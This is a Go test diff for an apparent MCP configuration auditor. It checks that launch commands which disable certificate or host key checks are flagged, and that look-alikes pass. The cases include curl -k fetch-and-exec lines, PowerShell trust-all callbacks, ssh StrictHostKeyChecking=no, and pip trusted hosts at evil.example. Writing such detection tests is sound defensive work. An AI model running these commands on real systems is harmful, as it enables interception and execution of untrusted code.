@@ -2914,3 +2914,53 @@ func TestAuditUserFolders(t *testing.T) {
 		{"cmd > a project file", stdio("cmd", "/c", "echo x > out.txt & srv"), []string{shell, meta}, false, true},
 	})
 }
+
+// Certificate and host key checks turned off by a download tool's own
+// options, by PowerShell replacing .NET's check, by ssh's options or by a
+// variable are insecure_url (ruleset 2026.12.84); npm reads `--option
+// false` as one option, uv's --trusted-host takes its host, and pipx's
+// --pip-args are pip's options. Each passed with at most fetch_exec,
+// shell_exec and shell_meta, forbidden_env for GIT_SSL_NO_VERIFY, and
+// `--strict-ssl false` and uvx --trusted-host with a misread package.
+func TestAuditCertificateChecksOff(t *testing.T) {
+	const shell, meta, fetch = "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]", "danger fetch_exec mcp.args[1]"
+	const insecure, insecure0 = "danger insecure_url mcp.args[1]", "danger insecure_url mcp.args[0]"
+	runCases(t, []auditCase{
+		{"curl -sSLk", stdio("sh", "-c", "curl -sSLk https://x.example/a -o a && exec ./a"), []string{fetch, insecure, shell, meta}, true, true},
+		{"curl --insecure", stdio("curl", "--insecure", "-o", "a", "https://x.example/a"), []string{"danger fetch_exec mcp.command", insecure0}, true, true},
+		{"wget --no-check-certificate", stdio("sh", "-c", "wget --no-check-certificate https://x.example/a"), []string{fetch, insecure, shell}, true, true},
+		{"wget -e check_certificate=off", stdio("sh", "-c", "wget -e check_certificate=off https://x.example/a"), []string{fetch, insecure, shell}, true, true},
+		{"aria2c --check-certificate=false", stdio("sh", "-c", "aria2c --check-certificate=false https://x.example/a"), []string{fetch, insecure, shell}, true, true},
+		{"xhs --verify=false", stdio("sh", "-c", "xhs --verify=false x.example/a > a"), []string{fetch, insecure, shell, meta}, true, true},
+		{"xh --verify no", stdio("sh", "-c", "xh --verify no https://x.example/a"), []string{fetch, insecure, shell}, true, true},
+		{"iwr -SkipCertificateCheck", stdio("pwsh", "-c", "iwr -SkipCertificateCheck https://x.example/a -OutFile a"), []string{fetch, insecure, shell}, true, true},
+		{"irm -skipcert abbreviated", stdio("pwsh", "-c", "irm -skipcert https://x.example/a"), []string{fetch, insecure, shell}, true, true},
+		{"ServerCertificateValidationCallback", stdio("pwsh", "-c", "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}; srv"), []string{insecure, shell}, false, true},
+		{"ServerCertificateValidationCallback={", stdio("pwsh", "-c", "[Net.ServicePointManager]::ServerCertificateValidationCallback={ $true }; srv"), []string{insecure, shell}, false, true},
+		{"CertificatePolicy", stdio("pwsh", "-c", "[System.Net.ServicePointManager]::CertificatePolicy = New-Object TrustAll; srv"), []string{insecure, shell}, false, true},
+		{"ssh StrictHostKeyChecking=no", stdio("sh", "-c", "ssh -o StrictHostKeyChecking=no u@h.example run"), []string{insecure, shell}, true, true},
+		{"GIT_SSH_COMMAND with StrictHostKeyChecking=no", withEnv(stdio("srv"), "GIT_SSH_COMMAND", "ssh -o StrictHostKeyChecking=no"), []string{
+			"danger forbidden_env mcp.env.GIT_SSH_COMMAND", "danger insecure_url mcp.env.GIT_SSH_COMMAND", "info child_env mcp.env"}, false, false},
+		{"GIT_SSL_NO_VERIFY", withEnv(stdio("srv"), "GIT_SSL_NO_VERIFY", "1"), []string{
+			"danger forbidden_env mcp.env.GIT_SSL_NO_VERIFY", "danger insecure_url mcp.env.GIT_SSL_NO_VERIFY", "info child_env mcp.env"}, false, false},
+		{"PERL_LWP_SSL_VERIFY_HOSTNAME=0", withEnv(stdio("srv"), "PERL_LWP_SSL_VERIFY_HOSTNAME", "0"), []string{
+			"danger insecure_url mcp.env.PERL_LWP_SSL_VERIFY_HOSTNAME", "info child_env mcp.env"}, false, false},
+		{"npx --strict-ssl false", stdio("npx", "-y", "--strict-ssl", "false", "pkg@1.0.0"), []string{"danger insecure_url mcp.args[1]"}, true, false},
+		{"uvx --trusted-host HOST", stdio("uvx", "--trusted-host", "evil.example", "pkg==1.0"), []string{insecure0}, true, false},
+		{"pipx --pip-args", stdio("pipx", "run", "--pip-args=--trusted-host evil.example", "pkg==1.0"), []string{insecure}, true, false},
+		{"pipx --pip-args index", stdio("pipx", "run", "--pip-args", "-i http://evil.example/simple", "pkg==1.0"), []string{"danger insecure_url mcp.args[2]"}, true, false},
+		{"npx --yes true", stdio("npx", "--yes", "true", "pkg@1.0.0"), []string{}, true, false},
+		// Look-alikes.
+		{"curl -ok writes to k", stdio("sh", "-c", "curl -ok https://x.example/a"), []string{fetch, shell}, true, true},
+		{"curl -k in a header", stdio("sh", "-c", "curl -H -k https://x.example/a"), []string{fetch, shell}, true, true},
+		{"wget --check-certificate=on", stdio("sh", "-c", "wget --check-certificate=on https://x.example/a"), []string{fetch, shell}, true, true},
+		{"iwr -SkipCertificateCheck:$false", stdio("pwsh", "-c", "iwr -SkipCertificateCheck:$false https://x.example/a"), []string{fetch, shell}, true, true},
+		{"iwr -Skip is ambiguous", stdio("pwsh", "-c", "iwr -Skip https://x.example/a"), []string{fetch, shell}, true, true},
+		{"callback reset to $null", stdio("pwsh", "-c", "[Net.ServicePointManager]::ServerCertificateValidationCallback = $null; srv"), []string{shell}, false, true},
+		{"callback read", stdio("pwsh", "-c", "$c = [Net.ServicePointManager]::ServerCertificateValidationCallback; srv"), []string{shell}, false, true},
+		{"a container's http subcommand", stdio("docker", "run", "-i", "--rm", "mcp/srv:1.0", "http", "--verify=no"), []string{}, true, false},
+		{"ssh accept-new", stdio("sh", "-c", "ssh -o StrictHostKeyChecking=accept-new u@h.example run"), []string{shell}, true, true},
+		{"GIT_SSL_NO_VERIFY empty", withEnv(stdio("srv"), "GIT_SSL_NO_VERIFY", ""), []string{
+			"danger forbidden_env mcp.env.GIT_SSL_NO_VERIFY", "info child_env mcp.env"}, false, false},
+	})
+}
